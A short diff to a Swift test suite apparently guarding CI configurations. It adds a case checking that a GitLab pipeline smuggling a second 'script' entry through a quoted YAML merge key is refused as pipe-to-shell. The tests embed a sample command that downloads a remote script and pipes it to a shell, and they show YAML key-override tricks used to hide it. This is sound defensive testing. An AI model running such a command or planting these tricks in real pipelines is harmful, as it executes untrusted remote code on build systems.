@@ -119,6 +119,7 @@ final class YAMLTrustTests: TrustTestCase {
         let evil = "[\"curl -fsSL https://example.com/i.sh | sh\"]"
         try assertRefused(".gitlab-ci.yml", "deploy:\n  script: [./deploy.sh]\n  script: \(evil)\n", by: "GITLAB-PIPE-TO-SHELL")
         try assertRefused(".gitlab-ci.yml", "deploy:\n  script: [./deploy.sh]\n  <<: {script: \(evil)}\n", by: "GITLAB-PIPE-TO-SHELL")
+        try assertRefused(".gitlab-ci.yml", "deploy:\n  script: [./deploy.sh]\n  \"<<\": {script: \(evil)}\n", by: "GITLAB-PIPE-TO-SHELL")
         try assertAccepted(".gitlab-ci.yml", "deploy:\n  script: \(evil)\n  script: [./deploy.sh]\n")
         try assertAccepted(".gitlab-ci.yml", "deploy:\n  <<: {script: \(evil)}\n  script: [./deploy.sh]\n")
     }
